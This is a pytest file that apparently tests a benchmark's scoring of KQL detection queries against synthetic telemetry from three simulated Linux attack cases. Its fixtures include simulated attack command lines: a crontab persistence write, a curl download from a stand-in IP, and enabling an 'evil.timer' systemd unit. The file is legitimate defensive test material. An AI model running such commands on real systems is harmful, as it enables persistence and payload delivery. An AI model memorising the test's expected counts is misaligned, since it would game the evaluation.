"""The one detection evaluator: attribution by id and by value, other cases' attack events
(false positives unless a technique is shared), row caps, and the expected set's scope.

The store: three cases' attack events (two of them share ATT&CK technique T1053), hard
negatives and background, every attack command line carrying the same token a
case-agnostic "marker" query could select on.
"""

from __future__ import annotations

import shutil

import pytest

from ctirealm.cases import Case, GroundTruth
from ctirealm.engine import LocalEngine
from ctirealm.scoring.detection import evaluate, evaluate_query, neutral_events, technique_parents
from ctirealm.telemetry.dataset import Dataset
from ctirealm.telemetry.store import Store, build_store
from tests.helpers import ROOT, process_event, write_jsonl

DPE = "DeviceProcessEvents"
ATTACK = {
    "linux_101": {
        DPE: [
            process_event(101000000001, "crontab /tmp/.c zz-sim", AccountName="www-data"),
            process_event(101000000002, "sh -c 'echo job > /tmp/.c' zz-sim", AccountName="www-data"),
        ]
    },
    "linux_102": {
        DPE: [process_event(102000000001, "curl -o /tmp/x http://203.0.113.9 zz-sim", AccountName="www-data")]
    },
    "linux_103": {
        DPE: [process_event(103000000001, "systemctl enable evil.timer zz-sim", AccountName="root")],
        "DeviceFileEvents": [
            {
                "Timestamp": "2026-03-05T10:00:01Z",
                "ReportId": 103000000002,
                "FileName": "evil.timer",
                "DeviceName": "web01.corp.example",
                "FolderPath": "/etc/systemd/system/evil.timer",
            }
        ],
    },
}
BENIGN = {
    "linux_101": {
        DPE: [
            process_event(104000000001, "crontab -l", AccountName="alice"),
            process_event(104000000002, "crontab -e", AccountName="root"),
        ]
    },
    "lookalikes": {
        DPE: [
            process_event(105000000001, "sleep 60", AccountName="root"),
            # the same values but the id: no row of these values identifies one event
            process_event(105000000002, "sleep 60", AccountName="root"),
            process_event(105000000003, "ls /var/log", AccountName="bob"),
            process_event(105000000004, "uptime", AccountName="bob"),
        ]
    },
}


def case(case_id: str, techniques: tuple[str, ...]) -> Case:
    events = {t: tuple(str(r["ReportId"]) for r in rows) for t, rows in ATTACK[case_id].items()}
    negatives = {t: tuple(str(r["ReportId"]) for r in rows) for t, rows in BENIGN.get(case_id, {}).items()}
    return Case(
        case_id,
        "linux",
        case_id,
        "Detect the thing this case is about, precisely.",
        (),
        ("realm-50",),
        "medium",
        GroundTruth(techniques, tuple(events), {}, events, negatives),
    )


CASES = {
    c.id: c
    for c in (
        case("linux_101", ("T1053.003",)),
        case("linux_102", ("T1105",)),
        case("linux_103", ("T1053.006", "T1543.002")),
    )
}


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Store:
    root = tmp_path_factory.mktemp("t") / "telemetry"
    shutil.copytree(ROOT / "telemetry" / "schemas", root / "schemas")
    shutil.copy(ROOT / "telemetry" / "dataset.yaml", root / "dataset.yaml")
    for kind, groups in (("attack", ATTACK), ("benign", BENIGN)):
        for group, tables in groups.items():
            for table, rows in tables.items():
                write_jsonl(root / kind / group / f"{table}.jsonl", rows)
    return build_store(Dataset.load(root), cache_dir=tmp_path_factory.mktemp("c"), rows=0)


@pytest.fixture(scope="module")
def engine(store: Store):
    with LocalEngine.of_store(store) as engine:
        yield engine


def judge(store: Store, engine, kql: str, case_id: str = "linux_101", **kw):
    target = CASES[case_id]
    neutral = neutral_events(target, CASES, store.labels)
    return evaluate_query(kql, target, engine, store.labels, engine.schemas, neutral=neutral, **kw)


MARKER = f"{DPE} | where ProcessCommandLine has 'zz-sim' | project ReportId"


def test_technique_parents() -> None:
    assert technique_parents(["T1053.003", "t1105"]) == {"T1053", "T1105"}


def test_neutral_events_are_the_attacks_of_cases_sharing_a_technique(store: Store) -> None:
    # linux_101 (T1053.003) and linux_103 (T1053.006) share T1053; linux_102 shares nothing.
    assert neutral_events(CASES["linux_101"], CASES) == {
        (DPE, "103000000001"),
        ("DeviceFileEvents", "103000000002"),
    }
    assert neutral_events(CASES["linux_102"], list(CASES.values())) == set()
    # The store's labels for a case's id count too (cases played from scenarios list no ids).
    bare = case("linux_103", ("T1053.006",))
    bare = Case(**{**bare.__dict__, "ground_truth": GroundTruth(("T1053.006",), (DPE,), {}, {}, {})})
    assert neutral_events(CASES["linux_101"], {"linux_103": bare}, store.labels) == {
        (DPE, "103000000001"),
        ("DeviceFileEvents", "103000000002"),
    }


def test_a_marker_query_over_other_cases_attack_events_is_penalised(store: Store, engine) -> None:
    # Catches linux_101's 2 events, linux_102's (no shared technique: a false positive) and
    # linux_103's (T1053 shared: neutral).
    result = judge(store, engine, MARKER)
    assert (result.tp, result.fp, result.fn) == (2, 1, 0)
    assert (result.foreign_attacks_matched, result.other_attacks) == (1, 1)
    assert result.precision == pytest.approx(2 / 3)
    assert result.false_positive_examples[0]["id"] == "102000000001"
    assert result.false_positive_examples[0]["kind"] == "attack"
    assert result.attack_groups == {
        "linux_101": [f"{DPE}:101000000001", f"{DPE}:101000000002"],
        "linux_102": [f"{DPE}:102000000001"],
        "linux_103": [f"{DPE}:103000000001"],
    }


def test_technique_sharing_neighbours_are_neutral(store: Store, engine) -> None:
    # For linux_103 the marker finds 1 of its 2 events (the other is a file event);
    # linux_101's two (T1053) are neutral, linux_102's is a false positive.
    result = judge(store, engine, MARKER, "linux_103")
    assert (result.tp, result.fp, result.fn, result.other_attacks) == (1, 1, 1, 2)
    # Without the neutral set every other case's attack counts against it.
    alone = evaluate_query(MARKER, CASES["linux_103"], engine, store.labels, engine.schemas)
    assert (alone.tp, alone.fp, alone.other_attacks) == (1, 3, 0)


@pytest.mark.parametrize(
    "head",
    [
        DPE,
        f"['{DPE}']",
        f'["{DPE}"]',
        f"union {DPE}",
        "union withsource=T Device*Process*",
        f"let src = {DPE} | where 1 == 1;\nsrc",
    ],
)
def test_a_quoted_query_scores_like_the_bare_one(store: Store, engine, head: str) -> None:
    kql = f"{head}\n| where AccountName == 'www-data' and ProcessCommandLine !has 'curl'\n| project ReportId"
    result = judge(store, engine, kql)
    assert (result.tp, result.fp, result.f1) == (2, 0, 1.0), result.summary()


def test_an_idless_projection_of_one_common_column_scores_nothing(store: Store, engine) -> None:
    kql = f"{DPE} | where ProcessCommandLine has 'zz-sim' | project DeviceName"
    result = judge(store, engine, kql)
    assert (result.tp, result.fp, result.unattributed) == (0, 4, 4)
    assert "project ReportId for DeviceProcessEvents" in (result.hint or "")
    # ... and one rare column is no better: a row needs three values of the event.
    one = judge(store, engine, f"{DPE} | where AccountName == 'www-data' | project ProcessCommandLine")
    assert (one.tp, one.unattributed) == (0, 3)


def test_idless_rows_count_when_their_values_identify_one_event(store: Store, engine) -> None:
    kql = (
        f"{DPE} | where AccountName == 'www-data' and ProcessCommandLine !has 'curl' "
        "| project timestamp, AccountName, processcommandline, DeviceName"
    )
    result = judge(store, engine, kql)
    assert (result.tp, result.fp, result.unattributed) == (2, 0, 0)
    # Values that two events share identify neither: each such row is unattributed.
    twins = judge(
        store,
        engine,
        f"{DPE} | where ProcessCommandLine == 'sleep 60' "
        "| project Timestamp, AccountName, ProcessCommandLine",
    )
    assert (twins.tp, twins.fp, twins.unattributed) == (0, 2, 2)
    # Rows identifying benign events by value are false positives, not unattributed rows.
    benign = judge(
        store,
        engine,
        f"{DPE} | where AccountName == 'bob' | project Timestamp, AccountName, ProcessCommandLine",
    )
    assert (benign.fp, benign.unattributed, benign.hard_negatives_matched) == (2, 0, 2)
    # A computed column beside them: the row is no event's values.
    noted = judge(store, engine, kql + " | extend Note = 'cron'")
    assert (noted.tp, noted.unattributed) == (0, 2)


def test_an_aggregate_never_counts(store: Store, engine) -> None:
    kql = (
        f"{DPE} | where ProcessCommandLine has 'zz-sim' "
        "| summarize n = count() by DeviceName, AccountName, FileName"
    )
    result = judge(store, engine, kql)
    assert (result.tp, result.fp, result.unattributed) == (0, 4, 4) and result.rows == 4
    # A computed value in an id-named column names nothing either.
    fake = judge(store, engine, f"{DPE} | summarize ReportId = count() by AccountName")
    assert fake.tp == 0 and fake.unattributed == fake.rows == 4


def test_rows_past_the_cap_are_traced_by_their_ids(store: Store, engine) -> None:
    result = judge(store, engine, f"{DPE} | project ReportId, ProcessCommandLine", max_rows=2)
    total = sum(len(r[DPE]) for r in (*ATTACK.values(), *BENIGN.values()) if DPE in r)
    assert result.rows == total and result.tp == 2
    assert result.fp == total - 2 - 1 and result.other_attacks == 1
    # Without an id column the rows past the cap are false positives, one per row.
    blind = judge(store, engine, f"{DPE} | project DeviceName", max_rows=2)
    assert blind.rows == total and blind.unattributed == total


def test_expected_events_outside_the_tables_read(store: Store, engine) -> None:
    expected = CASES["linux_103"].ground_truth.attack_events
    kql = f"{DPE} | where ProcessCommandLine has 'systemctl' | project ReportId"
    whole = evaluate(kql, engine, store.labels, expected=expected)
    assert (whole.tp, whole.fn, whole.expected, whole.expected_elsewhere) == (1, 1, 2, 0)
    scoped = evaluate(kql, engine, store.labels, expected=expected, within_tables_read=True)
    assert (scoped.tp, scoped.fn, scoped.expected, scoped.expected_elsewhere) == (1, 0, 1, 1)


def test_without_an_expected_set_attack_events_are_what_is_sought(store: Store, engine) -> None:
    result = evaluate(f"{DPE} | where FileName == 'crontab' | project ReportId", engine, store.labels)
    assert result.expected is None
    assert (result.tp, result.fp, result.hard_negatives_matched) == (1, 2, 2)


def test_bare_ids_as_the_expected_set(store: Store, engine) -> None:
    result = evaluate(MARKER, engine, store.labels, expected=["101000000001", "999"])
    assert (result.tp, result.fn, result.missed_attack) == (1, 1, ["999"])


def test_errors_come_back_with_the_stage(store: Store, engine) -> None:
    result = judge(store, engine, f"{DPE} | where Nope == 1")
    assert result.stage == "execute" and "Nope" in result.error and result.fn == 2
    assert "execute failed" in result.summary()
